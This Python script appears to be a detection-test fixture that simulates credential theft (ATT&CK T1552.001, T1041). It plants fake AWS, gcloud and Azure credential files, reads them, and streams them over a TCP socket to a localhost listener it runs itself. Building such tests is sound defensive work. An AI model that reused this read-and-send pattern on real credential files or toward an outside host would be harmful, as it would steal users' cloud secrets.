# technique: T1552.001 T1041
"""Unsecured Credentials: Credentials In Files (T1552.001), cloud
credentials read with pathlib and sent over a raw TCP socket (T1041).

Plants fake ~/.aws/credentials, ~/.config/gcloud/application_default_credentials.json
and ~/.azure/msal_token_cache.json, then reads them with Path.read_bytes()
(no open() call in the script's own code) and streams them, length-prefixed,
to a listener on 127.0.0.1:0 run by a thread of this script.

A good detector raises a high alert: a program reads cloud provider
credential files, then sends data to a socket.
"""
import os as _os, pwd as _pwd, sys as _sys  # noqa: E401 (safety guard, not part of the attack)
if _os.path.realpath(_os.path.expanduser("~")) == _os.path.realpath(_pwd.getpwuid(_os.getuid()).pw_dir):
    _sys.exit("this attack writes under HOME: run it with HOME set to a scratch directory")
import socket
import struct
import threading
from pathlib import Path

home = Path.home()
fakes = {
    home / ".aws" / "credentials": "[default]\naws_access_key_id = AKIAFAKEFAKEFAKEFAKE\n"
                                   "aws_secret_access_key = fake/fake/fake\n",
    home / ".config" / "gcloud" / "application_default_credentials.json":
        '{"type": "authorized_user", "refresh_token": "1//fake"}\n',
    home / ".azure" / "msal_token_cache.json": '{"AccessToken": {}}\n',
}
for p, text in fakes.items():
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_text(text)

srv = socket.socket()
srv.bind(("127.0.0.1", 0))
srv.listen(1)
total = []
th = threading.Thread(target=lambda: total.append(len(srv.accept()[0].recv(1 << 20))), daemon=True)
th.start()
blob = b""
for p in fakes:
    data = p.read_bytes()
    blob += struct.pack("!H", len(data)) + data
c = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
c.connect(srv.getsockname())
c.sendall(blob)
c.close()
th.join(5)
srv.close()
print("sent", len(blob))
